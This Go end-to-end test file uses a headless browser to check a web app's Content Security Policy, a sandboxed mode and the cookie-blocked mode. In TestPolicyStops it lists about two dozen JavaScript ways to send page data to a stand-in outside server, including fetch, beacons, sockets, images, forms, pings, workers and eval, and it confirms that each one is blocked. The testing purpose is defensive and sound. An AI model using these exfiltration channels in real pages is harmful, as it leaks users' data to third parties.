package e2e

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"sixtydays/e2e/internal/chrome"

	"github.com/chromedp/chromedp"
)

// TestPolicyHolds does everything under the policy of the server, which forbids
// nothing that the page needs, and then what it must forbid.
func TestPolicyHolds(t *testing.T) {
	s := serve(t)
	p := open(t, s, "/")
	everything(p)
	p.want(`e2e.violations`, []string{})

	// Everything is everything: each button of each page was pressed, in either
	// language.
	pressed := map[string][]string{}
	for _, press := range eval[[]string](p, `e2e.pressed()`) {
		path, name, _ := strings.Cut(press, " ")
		pressed[path] = append(pressed[path], name)
	}
	if got, want := pressed[invitations["fr"]], pressed[invitations["en"]]; !slices.Equal(got, want) || !containsAll(got, []string{"calendar", "copy.replace", "jobs.add", "print", "reset"}) {
		t.Errorf("in French %q were pressed, in English %q", got, want)
	}
	if got, want := len(pressed["/fr/"]), len(pressed["/"]); got < 15 || want < 15 {
		t.Errorf("on the score page %q were pressed", pressed)
	}

	// Text becomes no elements, whatever wrote it.
	p.expect(`TrustedHTML`)
	p.want(`(() => { try { document.body.innerHTML = "x" } catch (e) { return e.name } })()`, "TypeError")
	p.want(`e2e.violations.length`, 1) // the list does fill
	p.want(`document.getElementById("app") !== null`, true)
}

// TestPolicyStops tries to tell another server what was answered, in the ways
// that a page has. The other server hears of none.
//
// A policy cannot stop a page from leaving for another address; that none of
// our code does so is what TestNothingLeaves watches.
func TestPolicyStops(t *testing.T) {
	var heard []string
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		heard = append(heard, r.RequestURI)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	s := serve(t)
	site := files(t, s)
	p := open(t, s, "/")
	p.installed(site)                   // nothing is left to load
	p.expect(`Content Security Policy`) // what follows is refused aloud
	p.allow(`.`)
	ways := []struct{ name, try string }{
		{"fetch", `fetch(to, {mode: "no-cors"})`},
		{"request", `new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open("GET", to); x.send() })`},
		{"beacon", `navigator.sendBeacon(to, "x")`},
		{"event source", `new Promise((done) => { new EventSource(to).onerror = done })`},
		{"socket", `new Promise((done) => { new WebSocket(to.replace("http", "ws")).onerror = done })`},
		{"image", `load("img", "src")`},
		{"script", `load("script", "src")`},
		{"import", `import(to)`},
		{"style", `load("link", "href", {rel: "stylesheet"})`},
		{"prefetch", `document.head.append(Object.assign(document.createElement("link"), {rel: "prefetch", href: to}))`},
		{"frame", `load("iframe", "src")`},
		{"object", `load("object", "data")`},
		{"video", `load("video", "src")`},
		{"font", `new FontFace("x", "url(" + to + ")").load()`},
		{"background", `document.body.style.backgroundImage = "url(" + to + ")"`},
		{"form", `document.body.append(Object.assign(document.createElement("form"), {action: to, id: "out"})) ?? document.getElementById("out").submit()`},
		{"ping", `(() => { const a = Object.assign(document.createElement("a"), {href: "#x", ping: to}); document.body.append(a); a.click() })()`},
		{"worker", `new Worker(URL.createObjectURL(new Blob(["fetch('" + to + "')"])))`},
		{"our server", `fetch("/?answers=x")`},
		{"our server, image", `load("img", "src", {}, "/x.png?answers=x")`},
		{"our server, beacon", `navigator.sendBeacon("/x", "answers")`},
		{"eval", `(0, eval)("fetch('" + to + "')")`},
		{"inline handler", `(() => { const e = document.createElement("a"); e.setAttribute("onclick", "location = '" + to + "'"); document.body.append(e); e.click() })()`},
	}
	served := len(s.Requests())
	for _, way := range ways {
		p.run(script(`(async () => {
			const to = %v;
			const load = (tag, name, more = {}, url = to) => Promise.race([
				new Promise((done) => {
					const e = Object.assign(document.createElement(tag), {onload: done, onerror: done}, more);
					e[name] = url;
					document.body.append(e);
				}),
				new Promise((done) => addEventListener("securitypolicyviolation", done, {once: true})),
			]);
			try { await (`, []any{other.URL + "/" + strings.ReplaceAll(way.name, " ", "-")}) + way.try + `) } catch { }
		})()`)
	}

	// What comes last is let through, and comes after all others.
	p.run(`fetch("/robots.txt?last")`)
	other.Close() // waits for requests that are on their way
	for _, way := range heard {
		t.Errorf("the other server heard of it: %s", way)
	}
	for _, request := range s.Requests()[served:] {
		if request.Target != "/robots.txt?last" && request.Target != tabIcon {
			t.Errorf("our server heard of it: %s %s", request.Method, request.Target)
		}
	}
}

// TestSandboxed opens the page where it has no origin of its own, as in a frame
// that is sandboxed: storage throws and there can be no worker.
func TestSandboxed(t *testing.T) {
	s := serve(t)
	s.EditHeader(func(h http.Header) {
		if strings.HasPrefix(h.Get("Content-Type"), "text/html") {
			h.Set("Content-Security-Policy", h.Get("Content-Security-Policy")+"; sandbox allow-scripts")
		}
	})
	p := open(t, s, "/")
	p.want(`[origin, document.documentElement.dataset.storage]`, []string{"null", "memory"})
	p.answer(anchor)
	p.total(379)
}

// TestCookiesBlocked opens the page in a browser that is set to keep nothing.
func TestCookiesBlocked(t *testing.T) {
	profile := t.TempDir()
	writeFile(t, profile+"/Default/Preferences", `{"profile": {"default_content_setting_values": {"cookies": 2}}}`)
	browser, stop, err := chrome.Start(t.Context(), chromedp.UserDataDir(profile))
	if err != nil {
		t.Fatal(err)
	}
	defer stop()
	p := newPageOf(t, browser, serve(t))
	p.expect(`denied permission to use Service Worker`)
	p.load("/")
	p.ready()
	p.want(`document.documentElement.dataset.storage`, "memory")
	p.answer(anchor)
	p.total(379)
}

func writeFile(t *testing.T, name, text string) {
	t.Helper()
	err := os.MkdirAll(filepath.Dir(name), 0o777)
	if err == nil {
		err = os.WriteFile(name, []byte(text), 0o666)
	}
	if err != nil {
		t.Fatal(err)
	}
}
